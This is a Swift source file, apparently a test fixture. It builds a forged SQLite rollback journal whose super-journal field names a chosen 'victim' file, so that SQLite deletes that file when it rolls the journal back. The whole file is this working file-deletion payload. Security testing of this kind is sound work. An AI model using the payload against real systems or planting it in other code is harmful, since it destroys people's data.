/// A rollback journal that somebody has made up: SQLite, which rolls it back, deletes the file that it names
/// as its super-journal. Source: https://www.sqlite.org/fileformat.html#the_rollback_journal
enum CraftedJournal {
  static func bytes(naming victim: String) -> [UInt8] {
    var journal = magic
    // Records of which the file's size says how many, a nonce, pages, and the sizes of sector and page.
    for number in [UInt32(0), 7, 24, 512, 4096] { journal += bigEndian(number) }
    journal += [UInt8](repeating: 0, count: 512 - journal.count)
    let name = Array(victim.utf8)
    journal += bigEndian(0x4000_0000 / 4096 + 1) + name
    journal += bigEndian(UInt32(name.count)) + bigEndian(name.reduce(0) { $0 + UInt32($1) })
    return journal + magic
  }

  private static let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]

  private static func bigEndian(_ number: UInt32) -> [UInt8] {
    withUnsafeBytes(of: number.bigEndian, Array.init)
  }
}
